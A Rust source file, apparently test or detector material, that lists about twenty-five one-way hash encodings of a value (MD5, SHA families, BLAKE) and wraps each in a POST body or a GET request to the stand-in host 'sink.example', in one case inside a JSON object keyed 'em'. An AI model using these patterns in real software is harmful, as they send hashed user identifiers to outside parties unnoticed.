//! Disguises that cannot be undone.

use data_encoding::{BASE64, BASE64URL_NOPAD, HEXLOWER, HEXUPPER};
use sha2::Digest;

use crate::{Way, codings::field, get, post};

pub const WAYS: &[Way] = &[
    ("MD5", |value| hex(md5::Md5::digest(value))),
    ("MD5 of small letters", |value| hex(md5::Md5::digest(value.to_lowercase()))),
    ("MD5 in capitals", |value| post(field(&HEXUPPER.encode(&md5::Md5::digest(value))))),
    ("MD5 of capitals", |value| hex(md5::Md5::digest(value.to_uppercase()))),
    ("MD4", |value| hex(md4::Md4::digest(value))),
    ("SHA-1", |value| hex(sha1::Sha1::digest(value))),
    ("SHA-1 of small letters", |value| hex(sha1::Sha1::digest(value.to_lowercase()))),
    ("SHA-224", |value| hex(sha2::Sha224::digest(value))),
    ("SHA-256", |value| hex(sha2::Sha256::digest(value))),
    ("SHA-256 of small letters", |value| hex(sha2::Sha256::digest(value.to_lowercase()))),
    ("SHA-256 in base64", |value| post(field(&BASE64.encode(&sha2::Sha256::digest(value))))),
    ("SHA-256 in base64url", |value| {
        get(&format!("https://sink.example/?u={}", BASE64URL_NOPAD.encode(&sha2::Sha256::digest(value))))
    }),
    ("SHA-256 as bytes", |value| post([&[0x0a, 0x20][..], &sha2::Sha256::digest(value)].concat())),
    ("SHA-256 of small letters in an address", |value| {
        get(&format!("https://sink.example/u/{}/x", HEXLOWER.encode(&sha2::Sha256::digest(value.to_lowercase()))))
    }),
    ("SHA-256 twice", |value| hex(sha2::Sha256::digest(HEXLOWER.encode(&sha2::Sha256::digest(value))))),
    ("MD5 twice", |value| hex(md5::Md5::digest(HEXLOWER.encode(&md5::Md5::digest(value))))),
    ("SHA-384", |value| hex(sha2::Sha384::digest(value))),
    ("SHA-512", |value| hex(sha2::Sha512::digest(value))),
    ("SHA-512/256", |value| hex(sha2::Sha512_256::digest(value))),
    ("SHA3-256", |value| hex(sha3::Sha3_256::digest(value))),
    ("SHA3-512", |value| hex(sha3::Sha3_512::digest(value))),
    ("RIPEMD-160", |value| hex(ripemd::Ripemd160::digest(value))),
    ("BLAKE2b", |value| hex(blake2::Blake2b512::digest(value))),
    ("BLAKE2s", |value| hex(blake2::Blake2s256::digest(value))),
    ("BLAKE3", |value| post(field(&HEXLOWER.encode(blake3::hash(value.as_bytes()).as_bytes())))),
    ("SHA-256 in JSON in base64", |value| {
        let digest = HEXLOWER.encode(&sha2::Sha256::digest(value.to_lowercase()));
        post(field(&BASE64.encode(format!("{{\"em\":\"{digest}\"}}").as_bytes())))
    }),
];

fn hex(digest: impl AsRef<[u8]>) -> model::Exchange {
    post(field(&HEXLOWER.encode(digest.as_ref())))
}
